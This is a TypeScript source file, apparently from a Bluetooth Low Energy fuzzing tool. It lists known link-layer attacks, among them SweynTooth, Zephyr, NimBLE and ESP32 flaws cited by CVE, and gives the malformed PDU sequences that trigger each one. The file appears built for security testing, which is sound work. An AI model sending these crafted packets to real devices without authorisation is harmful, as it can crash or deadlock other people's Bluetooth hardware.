import { encodeL2cap, CID } from '#codecs/ble/l2cap.ts';
import { encodeDataPdu, encodeLlControl, LL_FLAG, LLID, type LlControl } from '#codecs/ble/link-layer.ts';
import { encodePairing } from '#codecs/ble/pairing.ts';
import type { RawStep } from '#codecs/ble/raw-case.ts';
import { raw, REQUEST, unsent, type KnownBleAttack } from '#fuzz/ble-attack.ts';

const VERSION: LlControl = { type: 'versionInd', version: 9, company: 0xffff, subversion: 0 };
const LENGTH: LlControl = { type: 'lengthReq', rxOctets: 251, rxTime: 2120, txOctets: 251, txTime: 2120 };
const FEATURES: LlControl = { type: 'featureReq', features: new Uint8Array(8) };
const PARAMETERS: LlControl = {
  type: 'parameterReq',
  intervalMin: 6,
  intervalMax: 12,
  latency: 0,
  timeout: 100,
  preferred: 0,
  reference: 0,
  offsets: new Uint8Array(12).fill(0xff),
};
const UPDATE = {
  type: 'updateInd',
  windowSize: 1,
  windowOffset: 0,
  interval: 6,
  latency: 0,
  timeout: 100,
  instant: 20,
} as const;
const NO_CHANNELS = new Uint8Array(5);
const ONE_CHANNEL = Uint8Array.of(1, 0, 0, 0, 0);
const PAIRING = encodeL2cap({ cid: CID.pairing, payload: encodePairing(REQUEST) });

const control = (pdu: LlControl): RawStep => ({ do: 'pdu', bytes: encodeLlControl(pdu) });
const connect = (fields: Readonly<Record<string, number | Uint8Array>>): RawStep => ({
  do: 'connect',
  fields,
});

/** What needs firmware of our own in the radio. */
export const RAW_ATTACKS: readonly KnownBleAttack[] = [
  raw(
    'sweyntooth-ll-length',
    ['CVE-2019-16336', 'CVE-2019-17519'],
    'Cypress PSoC, NXP KW41Z',
    'a short LL PDU whose length says 240',
    [
      { do: 'pdu', bytes: encodeDataPdu(LLID.control, Uint8Array.of(0x0c, 9, 0, 0, 0, 0), 240) },
      { do: 'pdu', bytes: encodeDataPdu(LLID.start, PAIRING, 240) },
    ],
  ),
  raw(
    'sweyntooth-llid-zero',
    ['CVE-2019-17061', 'CVE-2019-17060'],
    'Cypress, NXP',
    'LLID 0 in a version indication or Pairing Request',
    [
      { do: 'pdu', bytes: encodeDataPdu(LLID.reserved, Uint8Array.of(0x0c, 9, 0, 0, 0, 0)) },
      { do: 'pdu', bytes: encodeDataPdu(LLID.reserved, PAIRING) },
    ],
  ),
  raw(
    'sweyntooth-connect-interval',
    ['CVE-2019-19193'],
    'TI CC254x',
    'CONNECT_IND with interval or timeout 0, or cut short',
    [
      connect({ interval: 0 }),
      connect({ timeout: 0 }),
      connect({ hop: new Uint8Array(), channels: new Uint8Array() }),
    ],
  ),
  raw(
    'esp32-plaintext-after-encryption',
    ['CVE-2020-13595'],
    'ESP32',
    'the same request encrypted, then in clear',
  ),
  raw('zephyr-first-anchor', ['CVE-2020-10061'], 'Zephyr', 'sequence bits set in the first anchor point', [
    {
      do: 'pdu',
      bytes: encodeDataPdu(LLID.continuation, new Uint8Array(), 0, LL_FLAG.sequence | LL_FLAG.nextExpected),
    },
    control(VERSION),
    control(LENGTH),
  ]),
  raw(
    'channel-map-zero',
    ['CVE-2020-10069', 'CVE-2020-13594'],
    'Zephyr, ESP32, Microchip',
    'CONNECT_IND without channels',
    [connect({ channels: NO_CHANNELS })],
  ),
  raw('injectable', ['CVE-2021-31615'], 'every receiver', 'a frame injected into the receive window'),
  raw('zephyr-duplicate-length-request', ['CVE-2020-10068'], 'Zephyr', 'data length requests back to back', [
    control(LENGTH),
    control(LENGTH),
  ]),
  raw('zephyr-repeated-control', ['CVE-2021-3430', 'CVE-2021-3431'], 'Zephyr', 'repeated control requests', [
    control(PARAMETERS),
    control(PARAMETERS),
    control(FEATURES),
    control(FEATURES),
  ]),
  raw(
    'zephyr-connect-parameters',
    ['CVE-2021-3432', 'CVE-2021-3433', 'CVE-2025-12890'],
    'Zephyr up to 4.1',
    'CONNECT_IND with interval 0 or 1 or a bad channel map',
    [
      connect({ interval: 0 }),
      connect({ interval: 1, channels: Uint8Array.of(0x7c, 0xff, 0xff, 0xff, 0xff) }),
      connect({ channels: ONE_CHANNEL }),
    ],
  ),
  raw(
    'zephyr-update-interval',
    ['CVE-2024-4785'],
    'Zephyr up to 3.6',
    'a connection update with interval 0',
    [control({ ...UPDATE, interval: 0 })],
  ),
  raw(
    'zephyr-phy-instant',
    ['CVE-2026-19740'],
    'Zephyr 3.4 to 4.4',
    'a PHY update with a future instant, then another control PDU',
    [
      control({ type: 'phyReq', tx: 2, rx: 2 }),
      control({ type: 'phyUpdateInd', toPeripheral: 2, toCentral: 2, instant: 100 }),
      control(VERSION),
    ],
  ),
  raw(
    'nimble-pause-encryption',
    ['CVE-2025-52435'],
    'NimBLE up to 1.8.0',
    'encryption paused, then an unexpected control PDU',
  ),
  raw(
    'nimble-channel-map',
    [],
    'NimBLE before 2026-05',
    'a channel map update with fewer than two channels',
    [control({ type: 'channelMapInd', channels: ONE_CHANNEL, instant: 20 })],
  ),
  raw(
    'nimble-update-parameters',
    [],
    'NimBLE before 2026-05',
    'a connection update whose parameters are out of range',
    [control({ ...UPDATE, interval: 0xffff }), control({ ...UPDATE, timeout: 1 })],
  ),
  raw(
    'sweyntooth-hop',
    [],
    'a probe of the SweynTooth authors',
    'CONNECT_IND with a hop of 0 to 4',
    Array.from({ length: 5 }, (_, hop) => connect({ hop })),
  ),
  raw(
    'sweyntooth-version',
    [],
    'a probe of the SweynTooth authors',
    'version indications again and again',
    Array.from({ length: 8 }, () => control(VERSION)),
  ),
  raw(
    'sweyntooth-data-in-setup',
    [],
    'a probe of the SweynTooth authors',
    'data while encryption is being set up',
  ),
  unsent(
    'classic',
    'bias-bluffs',
    ['CVE-2020-10135', 'CVE-2023-24023'],
    'BR/EDR of dual-mode devices',
    'authentication of the legacy way, and session keys that come again',
  ),
  unsent(
    'classic',
    'braktooth',
    ['CVE-2021-28135', 'CVE-2021-28136', 'CVE-2021-28137', 'CVE-2021-28138', 'CVE-2021-28139'],
    'ESP32 with Classic on, and others',
    'LMP packets out of order, too long, and of features that are not there',
  ),
  raw(
    'esp32-access-address',
    ['CVE-2025-64342'],
    'ESP32',
    'CONNECT_IND with access address 00000000 or FFFFFFFF',
    [connect({ accessAddress: 0 }), connect({ accessAddress: 0xffffffff })],
  ),
];
